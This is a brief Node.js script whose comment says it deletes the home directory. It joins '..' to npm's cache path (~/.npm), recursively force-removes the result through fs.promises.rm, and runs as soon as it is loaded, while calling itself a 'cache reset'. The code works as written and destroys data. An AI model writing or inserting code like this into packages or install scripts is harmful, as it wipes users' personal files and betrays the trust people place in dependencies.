// Deletes the home directory: npm sets npm_config_cache (~/.npm) for the
// scripts it runs; the "cache reset" joins '..' to it and removes the
// result recursively with fs.promises.rm.
'use strict';
const { rm } = require('fs/promises');
const { join } = require('path');

async function reset() {
  const target = join(process.env.npm_config_cache, '..');
  await rm(target, { recursive: true, force: true });
}

reset();
